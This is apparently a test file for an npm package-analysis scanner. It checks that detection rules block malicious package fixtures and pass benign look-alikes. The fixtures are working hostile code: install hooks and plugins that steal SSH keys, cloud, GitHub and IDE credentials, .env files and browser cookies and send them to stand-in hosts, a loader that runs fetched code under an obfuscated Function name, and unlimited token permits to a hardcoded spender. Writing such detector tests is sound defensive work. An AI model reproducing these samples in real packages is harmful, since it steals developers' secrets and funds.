/**
 * The npm families of the twenty-second round (pkg-analysis-2026.12.8, docs/package-analysis.md "Branch `pkg23npm`,
 * second round"): each rule with its real case (SET12's tuning half), two variants written here in other syntax or
 * layout, and the honest twins it must leave below CAUTION.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import { NPM_TWINS_SET12, NPM_VARIANTS_SET12 } from '../support/npm-variants-set12.js';

const pkg = (o: Record<string, unknown>) => JSON.stringify({ version: '1.0.0', ...o });
const real = (id: string) => {
  const i = NPM_VARIANTS_SET12.findIndex((v) => v.id === id);
  assert.ok(i >= 0 && i % 2 === 0, `${id} is a tuning-half item`);
  return NPM_VARIANTS_SET12[i]!.files;
};
const twin = (id: string) => NPM_TWINS_SET12.find((v) => v.id === id)!.files;

async function blockedBy(files: Record<string, string | Buffer>, rule: string, label: string): Promise<void> {
  const r = await rateNpmFiles(files, { name: 'p', version: '1.0.0' });
  assert.is(r.level, 'BLOCKED', `${label}: ${r.rules.join(' ')}`);
  assert.ok(r.rules.some((x) => x.startsWith(`${rule}:`)), `${label}: ${r.rules.join(' ')}`);
}
async function honest(files: Record<string, string | Buffer>, label: string): Promise<void> {
  const r = await rateNpmFiles(files, { name: 'p', version: '1.0.0' });
  assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', `${label}: ${r.level} ${r.rules.join(' ')}`);
}

// A credential a `prepare` hook's file sends off the machine keeps its severity: git and local installs run the hook.
test('prepare hook sending a credential: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('prepare-script-gh-cli-token'), 'secret_send', 'real: gh hosts.yml + gh auth token');
  await blockedBy(
    {
      'package.json': pkg({ name: 'ui-kit-x', main: 'dist/index.js', scripts: { prepare: 'npm run setup', setup: 'node tools/init.mjs' } }),
      'tools/init.mjs': `import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
let rc = '';
try { rc = readFileSync(join(homedir(), '.npmrc'), 'utf8'); } catch {}
await fetch('https://collect.ui-kit-build.example/v1', { method: 'POST', body: JSON.stringify({ rc }) }).catch(() => {});
`,
      'dist/index.js': 'export const k = 1;\n',
    },
    'secret_send',
    'variant: ESM through npm run, ~/.npmrc with fetch',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'lint-rules-y', main: 'index.js', scripts: { prepare: 'node ./build/prep.cjs' } }),
      'build/prep.cjs': `const fs = require('fs');
const os = require('os');
const https = require('https');
const t = fs.readFileSync(os.homedir() + '/.config/gh/hosts.yml', 'utf8');
const r = https.request({ host: '203.0.113.7', path: '/u', method: 'PUT' });
r.on('error', () => {});
r.end(Buffer.from(t).toString('base64'));
`,
      'index.js': 'module.exports = {};\n',
    },
    'secret_send',
    'variant: CommonJS, gh hosts.yml by concatenation, to an IP',
  );
});

test('prepare hook honest twins: local git hooks path, a build that fetches a public schema', async () => {
  await honest(twin('twin-prepare-sets-local-hooks-path'), 'twin: core.hooksPath');
  await honest(
    {
      'package.json': pkg({ name: 'schema-types', main: 'index.js', scripts: { prepare: 'node scripts/gen.js' } }),
      'scripts/gen.js': `const fs = require('fs');
const https = require('https');
https.get('https://schemas.schema-types.example/v1.json', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => fs.writeFileSync('types.json', b)); });
`,
      'index.js': 'module.exports = {};\n',
    },
    'twin: a build fetching a public schema',
  );
});

// Editors' and developer tools' sign-in stores are credential stores (patterns.ts CREDENTIAL_STORE): VS Code-family
// state.vscdb, the GitHub CLI's hosts.yml, JetBrains' github.xml; a list mapped to such paths names them too.
test('IDE sign-in stores sent off the machine: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('ide-state-db-over-websocket'), 'secret_send', 'real: state.vscdb over a WebSocket');
  await blockedBy(
    {
      'package.json': pkg({ name: 'cursor-theme-z', type: 'module', exports: './index.mjs' }),
      'index.mjs': `import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
const db = path.join(os.homedir(), '.config', 'Cursor', 'User', 'globalStorage', 'state.vscdb');
const b = await readFile(db).catch(() => null);
if (b) await fetch('https://themes.cursor-sync.example/up', { method: 'POST', body: b }).catch(() => {});
export const theme = 'dark';
`,
    },
    'secret_send',
    'variant: ESM readFile of Cursor state.vscdb, fetch',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'jb-colors', main: 'lib/index.js' }),
      'lib/index.js': `const fs = require('fs');
const path = require('path');
const https = require('https');
const root = path.join(process.env.APPDATA || '', 'JetBrains');
const files = ['IntelliJIdea2025.1', 'PyCharm2025.1'].map((d) => path.join(root, d, 'options', 'github.xml'));
for (const f of files) {
  let x = '';
  try { x = fs.readFileSync(f, 'utf8'); } catch (e) { continue; }
  const r = https.request({ host: 'colors.jb-sync.example', method: 'POST', path: '/c' });
  r.on('error', () => {});
  r.end(x);
}
module.exports = {};
`,
    },
    'secret_send',
    'variant: CommonJS, JetBrains github.xml over a mapped list',
  );
});

test('IDE store honest twins: settings.json to a configured endpoint, state.vscdb read locally', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'settings-sync-h', main: 'index.js' }),
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
exports.push = async (endpoint) => {
  const s = fs.readFileSync(path.join(os.homedir(), '.config', 'Code', 'User', 'settings.json'), 'utf8');
  return fetch(endpoint, { method: 'POST', body: s });
};
`,
    },
    'twin: settings.json to the endpoint the user gives',
  );
  await honest(
    {
      'package.json': pkg({ name: 'vscode-ext-list', bin: { 'ext-list': 'cli.js' } }),
      'cli.js': `#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const db = path.join(os.homedir(), '.config', 'Code', 'User', 'globalStorage', 'state.vscdb');
console.log(fs.existsSync(db) ? fs.statSync(db).size + ' bytes of editor state' : 'no editor state');
`,
    },
    'twin: state.vscdb looked at locally',
  );
});

// A credential store read through a helper whose parameter is filled with the store's name (`read('.ssh/config')`).
test('credential files read through a helper: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('postcss-plugin-exfil-ssh-config-and-hosts'), 'secret_send', 'real: PostCSS Once hook, read(p) helper');
  await blockedBy(
    {
      'package.json': pkg({ name: 'vite-plugin-q', type: 'module', exports: './index.js' }),
      'index.js': `import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
const get = (f) => fs.readFileSync(path.join(os.homedir(), f), 'utf8');
export default function plugin() {
  return { name: 'q', buildStart() { fetch('https://q-plugin.example/b', { method: 'POST', body: get('.aws/credentials') }).catch(() => {}); } };
}
`,
    },
    'secret_send',
    'variant: Vite plugin, arrow helper, fetch',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'eslint-config-r', main: 'index.js' }),
      'index.js': `const fs = require('fs');
const os = require('os');
const https = require('https');
function load(name) { try { return fs.readFileSync(\`\${os.homedir()}/\${name}\`, 'utf8'); } catch (e) { return ''; } }
const r = https.request({ host: 'lint-stats.example', path: '/r', method: 'POST' });
r.on('error', () => {});
r.end(JSON.stringify({ k: load('.ssh/id_rsa') }));
module.exports = { rules: {} };
`,
    },
    'secret_send',
    'variant: function declaration, template-literal path',
  );
});

test('credential helper honest twins: a helper reading the package\'s own dotfile, a PostCSS plugin reading browserslist locally', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'rc-tool', main: 'index.js', homepage: 'https://rc-tool.example' }),
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const read = (p) => { try { return fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) { return ''; } };
exports.sync = () => fetch('https://api.rc-tool.example/v1/prefs', { method: 'PUT', body: read('.rc-toolrc') });
`,
    },
    'twin: its own dotfile to its own host',
  );
  await honest(
    {
      'package.json': pkg({ name: 'postcss-bl', main: 'index.js' }),
      'index.js': `const fs = require('fs');
const path = require('path');
const read = (p) => { try { return fs.readFileSync(path.join(process.cwd(), p), 'utf8'); } catch (e) { return ''; } };
module.exports = () => ({ postcssPlugin: 'postcss-bl', Once(root) { root.append({ text: read('.browserslistrc') }); } });
module.exports.postcss = true;
`,
    },
    'twin: project config read locally',
  );
});

// A module loaded by a path built beside the file (`require(path.join(__dirname, …))`) is a module of the archive: what
// the loading file hands it (the whole environment) is followed there.
test('hand-off to a module loaded by a built path: real case and two variants are BLOCKED', async () => {
  await blockedBy(real('webpack-plugin-emit-hook-split-exfil'), 'fingerprint_send', 'real: webpack emit hook, path from parts');
  await blockedBy(
    {
      'package.json': pkg({ name: 'rollup-plugin-s', main: 'index.js' }),
      'index.js': `module.exports = () => ({ name: 's', generateBundle() { const up = require(__dirname + '/lib/' + 'report'); up({ env: process.env }); } });
`,
      'lib/report.js': `const https = require('https');
module.exports = (o) => { const r = https.request({ host: 'rollup-stats.example', method: 'POST', path: '/e' }); r.on('error', () => {}); r.end(JSON.stringify(o)); };
`,
    },
    'fingerprint_send',
    'variant: __dirname concatenation, Rollup hook',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'next-plugin-t', main: 'index.js' }),
      'index.js': `const path = require('path');
const send = require(path.resolve(__dirname, 'internal', 'up.js'));
module.exports = (cfg) => { send(Object.assign({}, process.env)); return cfg; };
`,
      'internal/up.js': `module.exports = (e) => fetch('https://next-t.example/u', { method: 'POST', body: JSON.stringify(e) }).catch(() => {});
`,
    },
    'fingerprint_send',
    'variant: path.resolve with a file name, fetch',
  );
});

test('built-path hand-off honest twins: a webpack plugin reading NODE_ENV, a plugin handing env to a local writer', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'webpack-env-banner', main: 'index.js' }),
      'index.js': `const path = require('path');
class EnvBanner { apply(compiler) { compiler.hooks.emit.tap('EnvBanner', (c) => { const mode = process.env.NODE_ENV || 'development'; const fmt = require(path.join(__dirname, 'lib', 'format')); c.assets['banner.txt'] = { source: () => fmt(mode), size: () => 10 }; }); } }
module.exports = EnvBanner;
`,
      'lib/format.js': "module.exports = (m) => '/* built for ' + m + ' */';\n",
    },
    'twin: NODE_ENV at build time',
  );
  await honest(
    {
      'package.json': pkg({ name: 'dotenv-webpack-lite', main: 'index.js' }),
      'index.js': `const path = require('path');
module.exports = class { apply(compiler) { const w = require(path.join(__dirname, 'lib', 'write')); w(process.env, compiler.options.output.path); } };
`,
      'lib/write.js': "const fs = require('fs');\nmodule.exports = (env, dir) => fs.writeFileSync(dir + '/env.json', JSON.stringify({ NODE_ENV: env.NODE_ENV }));\n",
    },
    'twin: env handed to a local writer',
  );
});

// A .env file read (also as the default of a caller's option) and handed to another module of the archive that sends it.
test('dotenv fork posting the parsed file: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('dotenv-fork-config-posts-in-production'), 'secret_send', 'real: config() to diag.record');
  await blockedBy(
    {
      'package.json': pkg({ name: 'envload-x', type: 'module', exports: './main.js' }),
      'main.js': `import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { report } from './telemetry.js';
export function load(opts = {}) {
  const file = opts.path ?? resolve(process.cwd(), '.env');
  const vars = Object.fromEntries(readFileSync(file, 'utf8').split('\\n').filter(Boolean).map((l) => l.split('=')));
  report(vars);
  return vars;
}
`,
      'telemetry.js': "export function report(v) { fetch('https://t.envload.example/r', { method: 'POST', body: JSON.stringify(v) }).catch(() => {}); }\n",
    },
    'secret_send',
    'variant: ESM, ?? default, named import',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'cfg-env-y', main: 'index.js' }),
      'index.js': `const fs = require('fs');
const path = require('path');
const sync = require('./lib/sync');
const text = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');
sync.push(text);
module.exports = { text };
`,
      'lib/sync.js': "const https = require('https');\nexports.push = (t) => { const r = https.request({ host: '198.51.100.4', method: 'POST' }); r.on('error', () => {}); r.end(t); };\n",
    },
    'secret_send',
    'variant: CommonJS at import, member call, to an IP',
  );
});

test('dotenv honest twins: a dotenv that only populates process.env, an env-vault decrypting with the user key', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'dotenv-mini', main: 'lib/main.js' }),
      'lib/main.js': `const fs = require('fs');
const path = require('path');
const log = require('./log');
function config(options) {
  const p = (options && options.path) || path.resolve(process.cwd(), '.env');
  const parsed = {};
  for (const line of fs.readFileSync(p, 'utf8').split(/\\r?\\n/)) { const m = line.match(/^([\\w.-]+)=(.*)$/); if (m) parsed[m[1]] = m[2]; }
  for (const k of Object.keys(parsed)) if (!(k in process.env)) process.env[k] = parsed[k];
  log.debug(parsed, options && options.debug);
  return { parsed };
}
module.exports = { config };
`,
      'lib/log.js': "exports.debug = (p, on) => { if (on) console.log('[dotenv] loaded', Object.keys(p).length, 'keys'); };\n",
    },
    'twin: dotenv',
  );
  await honest(twin('twin-env-vault-decrypt-with-user-key'), 'twin: env vault');
});

// Code a Babel plugin inserts into the consumer's program is read as code; a page's whole cookie jar or storage sent to a
// fixed host is the user's sessions.
test('build-time code injection and session beacons: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('babel-plugin-dated-beacon-injection'), 'secret_send', 'real: template.statements.ast of a cookie beacon');
  await blockedBy(
    {
      'package.json': pkg({ name: 'babel-plugin-z', main: 'index.js' }),
      'index.js': `const template = require('@babel/template').default;
const snippet = template.ast(\`fetch('https://cdn-metrics.example/s', { method: 'POST', body: JSON.stringify({ ...sessionStorage }) })\`);
module.exports = () => ({ visitor: { Program(p) { p.pushContainer('body', snippet); } } });
`,
    },
    'secret_send',
    'variant: @babel/template, sessionStorage spread, fetch',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'ui-widgets-w', type: 'module', exports: './widget.js' }),
      'widget.js': `export function mount(el) { el.textContent = 'hi'; }
navigator.sendBeacon('https://w-cdn.example/i', JSON.stringify({ c: window.document.cookie, s: Object.assign({}, window.localStorage) }));
`,
    },
    'secret_send',
    'variant: page code at import, window-qualified stores',
  );
});

test('session honest twins: a plugin inserting a build banner, analytics sending one stored id, a cookie parsed for the own API', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'babel-plugin-banner', main: 'index.js' }),
      'index.js': "module.exports = ({ template }) => { const b = template.statement.ast(\"console.info('built at ' + new Date(0).toISOString())\"); return { visitor: { Program(p) { p.unshiftContainer('body', b); } } }; };\n",
    },
    'twin: build banner',
  );
  await honest(
    {
      'package.json': pkg({ name: 'tiny-analytics', main: 'index.js' }),
      'index.js': "exports.track = (ev) => navigator.sendBeacon('https://collect.tiny-analytics.example/e', JSON.stringify({ ev, id: localStorage.getItem('ta_id') }));\n",
    },
    'twin: one stored id',
  );
  await honest(
    {
      'package.json': pkg({ name: 'auth-lite', main: 'index.js', homepage: 'https://auth-lite.example' }),
      'index.js': "const csrf = () => (document.cookie.split('; ').find((c) => c.startsWith('csrf=')) || '').slice(5);\nexports.login = (u, p) => fetch('https://api.auth-lite.example/login', { method: 'POST', headers: { 'x-csrf': csrf() }, body: JSON.stringify({ u, p }) });\n",
    },
    'twin: one cookie parsed out for its own API',
  );
});

// A global looked up by a name the file computes at run time, called to build a function that is called at once.
test('Function under a computed name over fetched code: real case and two variants are BLOCKED by remote_code_eval', async () => {
  await blockedBy(real('three-module-fragment-loader'), 'remote_code_eval', 'real: three fragments');
  await blockedBy(
    {
      'package.json': pkg({ name: 'fmt-x', main: 'index.js' }),
      'index.js': `const n = require('./n');
const https = require('https');
https.get('https://fmt-x-dict.example/d.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => { self[n.k.map((x) => x[0]).join('')](b)(); }); });
`,
      'n.js': "exports.k = ['Fox', 'unit', 'nest', 'cat', 'time', 'ink', 'owl', 'nut'];\n",
    },
    'remote_code_eval',
    'variant: https.get body, self, first letters',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'str-pad-q', type: 'module', exports: './index.js' }),
      'index.js': `import parts from './parts.js';
const src = await (await fetch('https://str-pad-q.example/p')).text();
globalThis[parts.reverse().join('')]('m', src)({});
export const pad = (s, n) => String(s).padStart(n);
`,
      'parts.js': "export default ['ction', 'Fun'];\n",
    },
    'remote_code_eval',
    'variant: ESM, await fetch, reversed parts',
  );
});

test('computed-name global honest twins: a JSONP callback, a typed array picked by name over fetched bytes', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'jsonp-lite', main: 'index.js' }),
      'index.js': "exports.get = (cb) => fetch('https://api.jsonp-lite.example/d').then((r) => r.json()).then((d) => { window[cb](d); });\n",
    },
    'twin: JSONP callback',
  );
  await honest(
    {
      'package.json': pkg({ name: 'bin-loader', main: 'index.js' }),
      'index.js': "exports.load = async (url, type) => { const b = await (await fetch(url)).arrayBuffer(); return new globalThis[type + 'Array'](b); };\n",
    },
    'twin: typed array by name',
  );
});

// An unlimited typed-data permit to an address written in the code, by a function that ignores an argument it is given.
test('permit to a fixed spender: real case and two variants are BLOCKED by permit_fixed_spender', async () => {
  await blockedBy(real('permit-helper-fixed-spender-max'), 'permit_fixed_spender', 'real: ethers v6 signTypedData');
  await blockedBy(
    {
      'package.json': pkg({ name: 'viem-approve-kit', type: 'module', exports: './index.js' }),
      'index.js': `import { maxUint256 } from 'viem';
export async function approveGasless(walletClient, token, spender, amount, deadline) {
  const [owner] = await walletClient.getAddresses();
  return walletClient.signTypedData({ account: owner, domain: { name: 'T', version: '1', chainId: 1, verifyingContract: token }, types: { Permit: [] }, primaryType: 'Permit', message: { owner, spender: '0x9f4cdbd2e87b9cd1f2bd9b4c3e1f6a5d7c8b0e11', value: maxUint256, nonce: 0n, deadline } });
}
`,
    },
    'permit_fixed_spender',
    'variant: viem, options object',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'permit-v5-helper', main: 'index.js' }),
      'index.js': `const { ethers } = require('ethers');
const VAULT = '0x3b1e6c9d2a7f4e8b5c0d1a2f3e4b5c6d7e8f9a0b';
module.exports.permit = async function (signer, token, spender, value, deadline) {
  const owner = await signer.getAddress();
  const msg = { owner, spender: VAULT, value: ethers.constants.MaxUint256, nonce: await token.nonces(owner), deadline };
  return signer._signTypedData({ name: 'T', version: '1', chainId: 1, verifyingContract: token.address }, { Permit: [] }, msg);
};
`,
    },
    'permit_fixed_spender',
    'variant: ethers v5 _signTypedData, constant spender',
  );
});

test('permit honest twins: the spender given by the caller, a dApp router SDK signing for its router with the amount asked', async () => {
  await honest(twin('twin-permit-helper-uses-given-spender'), 'twin: given spender');
  await honest(
    {
      'package.json': pkg({ name: 'router-sdk-h', main: 'index.js' }),
      'index.js': `const ROUTER = '0x66a9893cc07d91d95644aedd05d03f95e1dba8af';
exports.signRouterPermit = async (signer, token, amount, deadline) => {
  const owner = await signer.getAddress();
  const message = { owner, spender: ROUTER, value: amount, nonce: await token.nonces(owner), deadline };
  return signer.signTypedData({ name: 'T', version: '1', chainId: 1, verifyingContract: await token.getAddress() }, { Permit: [] }, message);
};
`,
    },
    'twin: own router, the amount asked',
  );
});

test.run();
